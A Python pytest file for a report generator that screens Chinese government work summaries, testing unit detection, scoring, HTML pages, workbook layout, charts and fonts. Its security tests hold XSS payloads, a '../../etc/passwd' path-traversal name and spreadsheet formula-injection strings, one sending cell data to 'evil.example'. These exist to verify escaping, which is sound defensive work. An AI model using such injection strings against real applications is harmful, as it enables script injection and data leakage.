"""Reviewer report of ``summaryscan screen``: pages, workbook, charts, fonts, safety."""
from __future__ import annotations

import csv
import json
import re
import types
import warnings
from html.parser import HTMLParser
from pathlib import Path

import pytest

from summaryscan.coverage import coverage
from summaryscan.frameworks import load_framework
from summaryscan.pipeline import analyze_text
from summaryscan.records import Analysis, Finding, RawDocument
from summaryscan.report import fonts
from summaryscan.report.html import Span, highlight
from summaryscan.report.screen import ScreenReport, run_screen, safe_filename
from summaryscan.text.issuer import guess_unit
from summaryscan.report.tables import TableWriter, safe_cell

FW = load_framework("five-types")


def submission(unit: str, year: int = 2024, learn: int = 12, extra: str = "") -> str:
    """A small but realistic 模范机关 work summary."""
    return (
        f"{unit}{year}年创建模范机关工作总结\n\n"
        f"{year}年，{unit}坚持以习近平新时代中国特色社会主义思想为指导，对照“五型”模范机关标准，"
        "扎实推进创建工作。现将全年工作总结如下。\n"
        "一、坚持政治引领，着力建设政治型机关\n"
        f"（一）严格落实“第一议题”制度。全年落实“第一议题”学习{learn + 14}次，研究提出贯彻落实措施41条。\n"
        "（二）压紧压实主体责任。制定全面从严治党主体责任清单，局党组专题研究机关党建工作4次，"
        "与12个党支部书记签订党建工作责任书。\n"
        "二、强化理论武装，着力建设学习型机关\n"
        f"局党组理论学习中心组全年开展集中学习{learn}次、专题研讨5次，举办党务干部培训班2期，累计培训580人次。\n"
        "三、聚焦服务大局，着力建设高效型机关\n"
        "受理群众来信来访和12345热线诉求186件，办结184件，办结率98.9%。\n"
        "四、从严正风肃纪，着力建设廉洁型机关\n"
        "常态化开展警示教育6次，受教育党员干部780人次，局党组班子成员开展廉政谈话92人次。\n"
        "五、激发队伍活力，着力建设活力型机关\n"
        "组织党员志愿者开展志愿服务42次，走访慰问困难职工35人，发放慰问金6.8万元。\n"
        f"{extra}"
        "六、存在的问题和不足\n"
        "一是党建与业务融合还不够紧密；二是理论学习的深度还需加强。\n"
        f"七、{year + 1}年工作打算\n"
        "持续抓好“第一议题”制度落实，深化“党建+业务”品牌创建，推动机关党建高质量发展。\n")


def unreadable(doc: str = "扫描件.pdf") -> Analysis:
    return Analysis(raw=RawDocument(path=f"in/{doc}", doc=doc, format="pdf", status="no_text",
                                    message=f"{doc}：PDF 没有文字层（可能是扫描件），无法抽取文字"))


def add(rep: ScreenReport, a: Analysis, findings=()) -> None:
    rep.add(a, coverage(a, FW), list(findings))


class _Tags(HTMLParser):
    """Collects start tags with attributes, and the text of <script> elements."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        self._in_script = tag == "script"
        if self._in_script:
            self.scripts.append("")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts[-1] += data


def parse(path) -> _Tags:
    p = _Tags()
    p.feed(Path(path).read_text(encoding="utf-8"))
    return p


# --------------------------------------------------------------------------- #
# helpers: unit, file names, highlighting
# --------------------------------------------------------------------------- #

@pytest.mark.parametrize("title,text,unit", [
    ("市财政局机关党委2024年创建模范机关工作总结", "", "市财政局机关党委"),
    ("县人社局党组2023年模范机关创建工作总结", "", "县人社局党组"),
    ("关于市税务局2024年创建模范机关工作情况的汇报", "", "市税务局"),
    ("市交通运输局党组书记2024年度抓机关党建工作述职报告", "", "市交通运输局党组"),
    ("市纪委监委2024年工作总结", "", "市纪委监委"),
    ("关于市直机关创建模范机关工作情况的调研报告",
     "关于市直机关创建模范机关工作情况的调研报告\n市直机关工委调研组\n（2024年9月）\n正文……", "市直机关工委"),
    ("关于机关党建工作的几点思考", "关于机关党建工作的几点思考\n市直机关工委：\n正文。\n区财政局党组\n2024年12月20日",
     "区财政局党组"),
    ("模范机关创建工作总结", "模范机关创建工作总结\n正文没有署名。", ""),
])
def test_guess_unit(title, text, unit):
    assert guess_unit(title, text) == unit


def test_safe_filename_keeps_chinese_and_drops_separators():
    assert safe_filename("市财政局 2024 总结.docx") == "市财政局_2024_总结.docx"
    assert safe_filename("../../etc/passwd") == "etc_passwd"
    assert "/" not in safe_filename("a/b\\c:d*e?f\"g<h>i|j#k%l")
    assert safe_filename("...") == "doc"
    assert safe_filename("con.txt").startswith("_")
    assert len(safe_filename("长" * 500)) <= 100


def test_highlight_nests_crossing_spans_and_keeps_claims_whole():
    text = "共有党员<b>156名，其中在职118名。"
    i = text.index("156名")
    claim = Span(i, i + 4, "mark", "claim", "主体：党员", "c-0", 2, whole=True)
    # a finding that ends inside the claim is widened to cover it
    finding = Span(0, i + 2, "mark", "finding sev-high", "[X] 问题", "f-0", 1)
    out = highlight(text, [claim, finding], {0: ["at-0"]})
    assert '<mark class="claim" title="主体：党员" id="c-0">156名</mark>' in out
    assert "&lt;b&gt;" in out and "<b>" not in out
    assert out.count("<mark") == out.count("</mark>") == 2
    assert out.startswith('<span class="anchor" id="at-0"></span>')
    # crossing spans are closed and reopened, the id only on the first fragment
    a, b = Span(0, 6, "mark", "finding", "", "f-1", 1), Span(3, 10, "mark", "finding", "", "f-2", 1)
    out = highlight("0123456789", [a, b])
    assert out.count('id="f-1"') == 1 and out.count('id="f-2"') == 1 and 'data-cont="1"' in out
    assert re.sub(r"<[^>]+>", "", out) == "0123456789"


# --------------------------------------------------------------------------- #
# the report
# --------------------------------------------------------------------------- #

@pytest.fixture
def three(tmp_path):
    docs = [analyze_text(submission("市财政局机关党委", learn=12), "01_财政.txt"),
            analyze_text(submission("县人社局党组", 2023, learn=3), "02_人社.txt"),
            analyze_text(submission("区市场监管局党组", learn=8), "03_市场监管.txt")]
    return docs


def test_pages_are_written_as_documents_arrive(tmp_path, three):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = three[0]
    c = a.claims[0]
    add(rep, a, [Finding(a.doc, "ARITHMETIC", "high", "计算结果不符", a.section_path(c.section),
                         a.sentence_text(c.sentence), c.raw, c.start, c.end, [c.raw])])
    page = out / "docs" / "01_财政.txt.html"
    assert page.exists() and not (out / "index.html").exists()
    html = page.read_text(encoding="utf-8")
    assert 'class="claim"' in html and "ARITHMETIC" in html and 'id="sec-0"' in html
    assert "市财政局机关党委" in html
    for b in three[1:]:
        add(rep, b)
    add(rep, unreadable())
    index = rep.finish()
    assert index == str(out / "index.html")
    assert not (out / ScreenReport.WORK).exists()
    for name in ("coverage_heatmap.png", "claims_density.png", "findings_by_code.png"):
        assert (out / "charts" / name).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    assert not (out / "charts" / "similarity.png").exists()
    tags = parse(index)
    rows = [attrs for tag, attrs in tags.tags if tag == "tr" and "data-doc" in attrs]
    assert [r["data-doc"] for r in rows][-1] == "扫描件.pdf"        # unreadable: listed, last
    assert {r["data-doc"] for r in rows} == {"01_财政.txt", "02_人社.txt", "03_市场监管.txt", "扫描件.pdf"}
    text = Path(index).read_text(encoding="utf-8")
    assert "无文字层（扫描件）" in text and "PDF 没有文字层" in text
    # every link to a document page and every chart resolves
    hrefs = [attrs["href"] for tag, attrs in tags.tags if tag == "a" and attrs.get("href", "").startswith("docs/")]
    assert len(hrefs) == 4
    from urllib.parse import unquote
    for h in hrefs:
        assert (out / unquote(h.split("#")[0])).exists(), h
    for tag, attrs in tags.tags:
        if tag == "img":
            assert (out / unquote(attrs["src"])).exists()
    # no external resources anywhere
    for page in [Path(index)] + list((out / "docs").glob("*.html")):
        body = page.read_text(encoding="utf-8")
        assert not re.search(r"""(src|href)=["']?(https?:)?//""", body)


def test_score_and_rank_follow_the_documented_formula(tmp_path, three):
    rep = ScreenReport(str(tmp_path / "rep"), FW)
    a = three[0]
    add(rep, a, [Finding(a.doc, "PLACEHOLDER", "medium", "占位符"), Finding(a.doc, "NUMBERING", "low", "序号")])
    add(rep, three[1])
    add(rep, unreadable())
    rep.finish()
    row = rep.rows[0]
    weights = {d.name: d.weight for d in FW.dimensions}
    cov = {c.dimension: c for c in coverage(a, FW)}
    expected = 100 * sum(weights[d] * cov[d].score for d in weights) / sum(weights.values())
    bonus = {(d.name, b.name): b.weight for d in FW.dimensions for b in d.bonus}
    expected += sum(bonus[(c.dimension, b)] for c in cov.values() for b in c.bonus)
    deduct = {(d.name, b.name): b.weight for d in FW.dimensions for b in d.deductions}
    expected -= sum(deduct[(c.dimension, b)] for c in cov.values() for b in c.deductions)
    expected -= FW.scoring.penalties["medium"] + FW.scoring.penalties["low"]
    assert row["score"] == pytest.approx(round(expected, 1))
    assert row["severity"] == {"high": 0, "medium": 1, "low": 1}
    ranks = sorted((r["score"], r["rank"]) for r in rep.rows if r["score"] is not None)
    assert ranks[-1][1] == 1 and rep.rows[2]["rank"] is None and rep.rows[2]["score"] is None


def test_summary_rows_stay_small_whatever_the_document_size(tmp_path):
    rep = ScreenReport(str(tmp_path / "rep"), FW)
    big = analyze_text(submission("市统计局机关党委", extra="（一）补充说明。" + "开展理论学习12次。" * 4000 + "\n"),
                       "big.txt")
    assert len(big.raw.text) > 40_000
    add(rep, big)
    assert len(json.dumps(rep.rows[0], ensure_ascii=False)) < 3_000
    assert not any(isinstance(v, Analysis) for v in vars(rep).values())
    rep.finish()


def test_cross_findings_show_on_both_pages(tmp_path, three):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    for a in three:
        add(rep, a)
    a, b = three[0], three[1]
    sa, sb = a.sentences[3], b.sentences[3]
    one_sided = Finding(a.doc, "TEMPLATE_COPY", "medium", f"本段与 {b.doc} 高度雷同", "", "", a.raw.text[sa.start:sa.end],
                        sa.start, sa.end, other_doc=b.doc, other_start=sb.start, other_end=sb.end)
    sim = types.SimpleNamespace(docs=[d.doc for d in three], matrix=[[1, .8, .1], [.8, 1, .2], [.1, .2, 1]])
    rep.finish([one_sided], sim)
    assert (out / "charts" / "similarity.png").exists()
    page_a = (out / "docs" / "01_财政.txt.html").read_text(encoding="utf-8")
    page_b = (out / "docs" / "02_人社.txt.html").read_text(encoding="utf-8")
    page_c = (out / "docs" / "03_市场监管.txt.html").read_text(encoding="utf-8")
    assert "TEMPLATE_COPY" in page_a and "TEMPLATE_COPY" in page_b and "TEMPLATE_COPY" not in page_c
    # each page marks its own passage and links to the other one's
    assert f"02_%E4%BA%BA%E7%A4%BE.txt.html#at-{sb.start}" in page_a
    assert f"01_%E8%B4%A2%E6%94%BF.txt.html#at-{sa.start}" in page_b
    assert re.search(r'<mark class="finding sev-medium code-TEMPLATE_COPY"[^>]*id="f-\d+"', page_b)
    rows = {r["doc"]: r for r in rep.rows}
    assert rows[a.doc]["severity"]["medium"] == rows[b.doc]["severity"]["medium"] == 1
    assert "TEMPLATE_COPY" in rows[b.doc]["codes"]
    index = (out / "index.html").read_text(encoding="utf-8")
    assert index.count("<tr><td><a href=\"docs/") == 1           # the pair is listed once
    import openpyxl
    ws = openpyxl.load_workbook(out / "report.xlsx")["问题清单"]
    docs = sorted(r[0] for r in ws.iter_rows(min_row=2, values_only=True) if r[1] == "TEMPLATE_COPY")
    assert docs == sorted([a.doc, b.doc])


def test_reciprocal_cross_findings_are_not_doubled(tmp_path, three):
    rep = ScreenReport(str(tmp_path / "rep"), FW)
    for a in three:
        add(rep, a)
    a, b = three[0], three[2]
    f1 = Finding(a.doc, "TEMPLATE_COPY", "high", "雷同", start=10, end=60, other_doc=b.doc, other_start=12, other_end=62)
    f2 = Finding(b.doc, "TEMPLATE_COPY", "high", "雷同", start=12, end=62, other_doc=a.doc, other_start=10, other_end=60)
    rep.finish([f1, f2], ([d.doc for d in three], [[1, 0, .7], [0, 1, 0], [.7, 0, 1]]))
    rows = {r["doc"]: r for r in rep.rows}
    assert rows[a.doc]["severity"]["high"] == 1 and rows[b.doc]["severity"]["high"] == 1
    assert len(rep.cross) == 1


# --------------------------------------------------------------------------- #
# security: submissions are untrusted
# --------------------------------------------------------------------------- #

EVIL_TITLE = "<script>alert(1)</script>局2024年工作总结"
EVIL_BODY = '共有党员<img src=x onerror=alert(1)>12名，开展活动3次。"><svg onload=alert(2)>'


def test_submission_html_is_shown_as_text_never_run(tmp_path):
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = analyze_text(f"{EVIL_TITLE}\n一、主要做法\n{EVIL_BODY}\n", doc="evil<script>alert(3)</script>.txt")
    assert a.claims, "the test needs a claim inside the hostile text"
    add(rep, a, [Finding(a.doc, "PLACEHOLDER", "medium", "<img src=x onerror=alert(4)>", "<b>节</b>",
                         "<script>alert(5)</script>", "", 0, 10)])
    rep.finish()
    for page in [out / "index.html", *(out / "docs").glob("*.html")]:
        body = page.read_text(encoding="utf-8")
        tags = parse(page)
        imgs = [attrs for tag, attrs in tags.tags if tag == "img"]      # only our own charts
        assert all(a.get("src", "").startswith("charts/") and set(a) <= {"src", "alt", "loading"} for a in imgs)
        assert not any(tag == "svg" for tag, _ in tags.tags), page
        assert not any(k.startswith("on") for _, attrs in tags.tags for k in attrs), page
        assert all("alert" not in s for s in tags.scripts), page
        assert "<script>alert" not in body and "<img src=x" not in body
    doc_page = next((out / "docs").glob("evil*.html")).read_text(encoding="utf-8")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in doc_page
    assert "&lt;img src=x onerror=alert(1)&gt;" in doc_page
    assert "&lt;script&gt;alert(5)&lt;/script&gt;" in doc_page
    assert "/" not in next((out / "docs").glob("evil*.html")).name.replace(".html", "")


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+1", "-2+3", "@SUM(A1)"]


def test_xlsx_cells_from_submissions_are_never_formulas(tmp_path):
    import openpyxl
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    a = analyze_text(submission("市财政局机关党委"), "evil.txt")
    a.title = FORMULAS[0]
    for c, f in zip(a.claims, FORMULAS):
        c.subject = f
    findings = [Finding(a.doc, "ARITHMETIC", "high", f, sentence=f, raw=f) for f in FORMULAS]
    add(rep, a, findings)
    rep.finish()
    wb = openpyxl.load_workbook(out / "report.xlsx")
    assert wb.sheetnames == ["汇总", "数据声明", "问题清单", "维度覆盖"]
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.lstrip("'")[:1] in "=+-@" and \
                        cell.value.lstrip("'") in FORMULAS:
                    assert cell.value.startswith("'"), (ws.title, cell.coordinate, cell.value)
                    seen += 1
    assert seen >= 4 + 4 * 3 + 1      # subjects, findings (message, sentence, raw), title


def test_csv_cells_from_submissions_are_neutralised(tmp_path):
    for f in FORMULAS:
        assert safe_cell(f) == "'" + f
    assert safe_cell("正常文本") == "正常文本" and safe_cell(12) == 12
    w = TableWriter(str(tmp_path), "findings", ["doc", "sentence"])
    w.write([{"doc": "a.txt", "sentence": f} for f in FORMULAS])
    w.close()
    with open(tmp_path / "findings.csv", encoding="utf-8-sig", newline="") as fh:
        got = [r["sentence"] for r in csv.DictReader(fh)]
    assert got == ["'" + f for f in FORMULAS]


def test_xlsx_layout(tmp_path, three):
    import openpyxl
    out = tmp_path / "rep"
    rep = ScreenReport(str(out), FW)
    for a in three:
        add(rep, a, [Finding(a.doc, "NUMBERING", "low", "序号跳号：" + "很长的句子" * 30, sentence="句" * 200)])
    add(rep, unreadable())
    rep.finish()
    wb = openpyxl.load_workbook(out / "report.xlsx")
    for ws in wb.worksheets:
        assert ws.freeze_panes == "A2", ws.title
        assert ws.auto_filter.ref and ws.auto_filter.ref.startswith("A1:"), ws.title
    summary = wb["汇总"]
    headers = [c.value for c in summary[1]]
    assert headers[:4] == ["名次", "文件", "标题", "单位"] and "政治型" in headers and "得分" in headers
    assert summary.max_row == 5
    title_col = summary.column_dimensions["C"].width
    assert title_col >= 40      # 23 characters, 19 of them CJK: counted double, about 44
    findings = wb["问题清单"]
    col = {c.value: c.column_letter for c in findings[1]}
    assert findings[f"{col['句子']}2"].alignment.wrap_text
    assert 40 <= findings.column_dimensions[col["句子"]].width <= 70
    status = {r[1]: r[6] for r in summary.iter_rows(min_row=2, values_only=True)}
    assert status["扫描件.pdf"] == "无文字层（扫描件）"


# --------------------------------------------------------------------------- #
# fonts and charts
# --------------------------------------------------------------------------- #

def test_cjk_font_is_resolved_and_renders_chinese_without_missing_glyphs(tmp_path):
    fonts.reset_for_tests()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        family = fonts.find_cjk_font()
    if family is None:
        pytest.skip("no CJK font installed on this machine (apt-get install fonts-wqy-microhei)")
    assert fonts.setup_cjk_font() == family
    import matplotlib
    assert matplotlib.rcParams["font.sans-serif"][0] == family
    assert matplotlib.rcParams["axes.unicode_minus"] is False
    from matplotlib.figure import Figure
    fig = Figure(figsize=(3, 2))
    ax = fig.add_subplot(111)
    ax.set_title("政治型 学习型 高效型 廉洁型 活力型")
    ax.set_xlabel("每千字数据声明数 −5")
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        fig.savefig(tmp_path / "zh.png")
    missing = [str(w.message) for w in caught if "missing from" in str(w.message) or "Glyph" in str(w.message)]
    assert missing == []


def test_font_warns_once_with_install_hint_when_no_cjk_font(monkeypatch):
    fonts.reset_for_tests()
    monkeypatch.setattr(fonts, "find_cjk_font", lambda: None)
    with warnings.catch_warnings(record=True) as caught:
        warnings.simplefilter("always")
        assert fonts.setup_cjk_font() is None
        assert fonts.setup_cjk_font() is None
    hints = [w for w in caught if "fonts-wqy-microhei" in str(w.message)]
    assert len(hints) == 1
    fonts.reset_for_tests()


def test_charts_for_a_large_batch_stay_readable(tmp_path):
    from summaryscan.report import charts
    rows = [{"doc": f"{i:03d}.txt", "status": "ok", "unit": f"第{i}局", "title": "", "density": i / 7,
             "dims": {"政治型": (i % 10) / 10, "学习型": 1.0}, "rank": i + 1} for i in range(150)]
    p = charts.coverage_heatmap(rows, ["政治型", "学习型"], str(tmp_path / "h.png"))
    q = charts.density_bar(rows, str(tmp_path / "d.png"))
    import numpy as np
    m = np.eye(150)
    m[3, 7] = m[7, 3] = 0.9
    s = charts.similarity_heatmap(([r["doc"] for r in rows], m), str(tmp_path / "s.png"), rows)
    from matplotlib import image
    for path in (p, q, s):
        h, w = image.imread(path).shape[:2]
        assert h < 4000 and w < 4000, path


def test_text_store_gives_back_each_text_by_index(tmp_path):
    from summaryscan.report.screen import TextStore
    store = TextStore(str(tmp_path / "texts.bin"))
    texts = [("a.txt", "一、总体情况\n开展谈话65人次。"), ("b.txt", "𠀋 emoji 🙂 and \r\n line"), ("c.txt", "x" * 5000)]
    for doc, text in texts:
        store.append(doc, text)
    assert len(store) == 3 and store[1] == texts[1] and store[-1] == texts[2]
    assert store[0:2] == texts[:2] and list(store) == texts
    store.append("d.txt", "后加的")                  # appending after reading works too
    assert store[3] == ("d.txt", "后加的")
    store.close()


def test_similarity_heatmap_of_the_top_rows_names_the_run_size(tmp_path, monkeypatch):
    from summaryscan.report import charts
    titles = []
    real = charts._save

    def save(fig, path):
        titles.append(fig.axes[0].get_title(loc="left"))
        return real(fig, path)
    monkeypatch.setattr(charts, "_save", save)
    import numpy as np
    m = np.eye(3)
    m[0, 1] = m[1, 0] = 0.4
    assert charts.similarity_heatmap({"docs": ["a", "b", "c"], "matrix": m, "total": 500}, str(tmp_path / "s.png"))
    assert "共500份" in titles[-1] and "最相似的3份" in titles[-1]
    assert charts.similarity_heatmap((["a", "b", "c"], m), str(tmp_path / "t.png"))
    assert "共" not in titles[-1]


# --------------------------------------------------------------------------- #
# end to end
# --------------------------------------------------------------------------- #

def test_run_screen_end_to_end(tmp_path):
    src = tmp_path / "in"
    src.mkdir()
    (src / "01_财政局.txt").write_text(submission("市财政局机关党委"), encoding="utf-8")
    (src / "02_人社局.txt").write_text(submission("县人社局党组", 2023, learn=3), encoding="utf-8")
    (src / "03_旧格式.doc").write_bytes(b"\xd0\xcf\x11\xe0not really a doc")
    (src / "04_空.txt").write_bytes(b"")
    index = run_screen([str(src)], str(tmp_path / "out"), progress=False)
    body = Path(index).read_text(encoding="utf-8")
    for name in ("01_财政局.txt", "02_人社局.txt", "03_旧格式.doc", "04_空.txt"):
        assert name in body
    assert (tmp_path / "out" / "report.xlsx").exists()
    assert len(list((tmp_path / "out" / "docs").glob("*.html"))) == 4
